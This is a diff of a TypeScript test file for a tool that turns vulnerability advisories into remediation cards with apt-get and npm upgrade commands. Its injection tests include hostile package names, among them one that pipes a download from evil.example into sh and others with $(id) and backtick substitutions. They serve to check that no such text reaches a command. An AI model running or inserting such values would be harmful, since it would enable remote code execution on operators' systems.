@@ -1,38 +1,104 @@
 import type { Match } from '@breakwater/exposure';
+import type { OsvRecord } from '@breakwater/formats/osv';
+import type { Digest, Id, Instant } from '@breakwater/kernel';
 import { describe, expect, test } from 'vitest';
 import { makeCard } from './card.ts';
 
-const until = { how: 'version-in-range', end: { kind: 'fixed', version: '1.7.16-1' } };
+const record: OsvRecord = {
+  id: 'x_BW-2026-00000000',
+  modified: '2026-03-01T08:00:00.000Z',
+  summary: 'A crafted document reads past its end',
+};
+const due = { dueAt: '2026-03-15T08:00:00.000Z' as Instant, because: 'BOD 26-04, tier 2: 14 days' };
 
 function match(ecosystem: string, name: string, installedAs?: string): Match {
-  const component = { ecosystem, name, version: '1.7.15-1', path: '/components/0' };
+  const component = { ecosystem, name, version: '1.0', path: null };
   const given = installedAs === undefined ? component : { ...component, installedAs };
+  const reason = { how: 'version-in-range', end: { kind: 'fixed', version: '1.2' } };
   // Of a reason, the card reads these parts alone.
-  return { inventoryId: 'inventory', component: given, reason: until } as unknown as Match;
+  return { inventoryId: 'inventory', component: given, reason } as unknown as Match;
 }
 
-function commandsFor(...matches: Match[]): string {
-  const card = makeCard({
-    record: { id: 'x_BW-2026-00000000', modified: '2026-11-21T00:00:00Z' },
-    matches,
-    inventory: 'front desk',
-    due: { dueAt: null, because: 'a rule' },
-    patch: null,
+function card(matches: readonly Match[], patch: Parameters<typeof makeCard>[0]['patch'] = null) {
+  return makeCard({ record, matches, inventory: 'the reception desk', due, patch });
+}
+
+describe('DIS-6 everything an operator must do is on one card, in plain words', () => {
+  test('what, where, why and until when', () => {
+    const made = card([match('Debian:12', 'cjson', 'libcjson1')]);
+    expect(made).toMatchObject({
+      headline: 'Update libcjson1 on the reception desk',
+      why: 'A crafted document reads past its end',
+      dueAt: due.dueAt,
+      dueBecause: due.because,
+      advisory: record.id,
+      patch: null,
+    });
+    expect(made.where).toMatchObject([{ component: 'libcjson1', version: '1.0', fixed: '1.2' }]);
   });
-  return card.steps.map((step) => step.command ?? '').join('\n');
-}
 
-describe('the commands of a card', () => {
+  test('Debian: the exact command names what is installed, each package once', () => {
+    const made = card([
+      match('Debian:12', 'cjson', 'libcjson1'),
+      match('Debian:12', 'cjson', 'libcjson-dev'),
+      match('Debian:12', 'cjson', 'libcjson1'),
+    ]);
+    expect(made.headline).toBe('Update libcjson1 and libcjson-dev on the reception desk');
+    expect(made.steps.map((s) => s.command)).toEqual([
+      null,
+      'sudo apt-get update',
+      'sudo apt-get install --only-upgrade libcjson-dev libcjson1',
+      'dpkg-query -W libcjson-dev libcjson1',
+      null,
+    ]);
+  });
+
+  test('npm: update, check, and what to do when another package holds it back', () => {
+    expect(card([match('npm', 'ini')]).steps.map((s) => s.command)).toEqual([
+      null,
+      'npm update ini',
+      'npm ls ini',
+      'npm pkg set "overrides.ini=>=1.2" && npm install',
+      null,
+    ]);
+  });
+
+  test('each of several npm packages gets commands of its own', () => {
+    const made = card([match('npm', 'ini'), match('npm', 'qs'), match('npm', 'ini')]);
+    const updates = made.steps.filter((s) => s.command?.startsWith('npm update'));
+    expect(updates.map((s) => s.command)).toEqual(['npm update ini', 'npm update qs']);
+  });
+
+  test('the verified patch, where one is published', () => {
+    const patch = {
+      id: 'patch_1' as Id<'patch'>, // spelled as kernel does
+      sha256: `sha256:${'0'.repeat(64)}` as Digest,
+      attestation: null,
+    };
+    expect(card([match('Debian:12', 'cjson')], patch).patch).toEqual(patch);
+  });
+});
+
+describe('DIS-7 no text from outside ends up inside a command', () => {
+  const commandsFor = (...matches: Match[]) =>
+    card(matches)
+      .steps.map((step) => step.command ?? '')
+      .join('\n');
+
   test.each([
     ['Debian:12', 'cjson', 'libcjson1; curl evil.example|sh #'],
     ['Debian:12', 'cjson', '--allow-unauthenticated'],
     ['Debian:12', 'cjson', 'a$(id)'],
+    ['Debian:12', 'cjson', 'a\nb'],
     ['npm', 'ini; id', undefined],
     ['npm', '@evil/--global', undefined],
     ['npm', '`id`', undefined],
-  ] as const)('carry no name of %s that a terminal would obey: %s as %s', (eco, name, as) => {
-    const commands = commandsFor(match(eco, name, as), match('Debian:12', 'cjson', 'libcjson1'));
-    expect(commands).not.toContain(as ?? name);
+    ['npm', 'a"b', undefined],
+    ['npm', 'ini\n', undefined],
+  ] as const)('none of %s that a terminal would obey: %s as %s', (ecosystem, name, installedAs) => {
+    const odd = match(ecosystem, name, installedAs);
+    const commands = commandsFor(odd, match('Debian:12', 'cjson', 'libcjson1'));
+    expect(commands).not.toContain(installedAs ?? name);
     expect(commands).toContain('--only-upgrade libcjson1\n');
   });
 
@@ -41,7 +107,7 @@ describe('the commands of a card', () => {
     ['npm', 'JSONStream'],
     ['npm', 'lodash.template'],
     ['Debian:12', 'libstdc++6'],
-  ])('carry an ordinary name of %s: %s', (ecosystem, name) => {
+  ])('an ordinary name of %s does: %s', (ecosystem, name) => {
     expect(commandsFor(match(ecosystem, name))).toContain(` ${name}`);
   });
 });
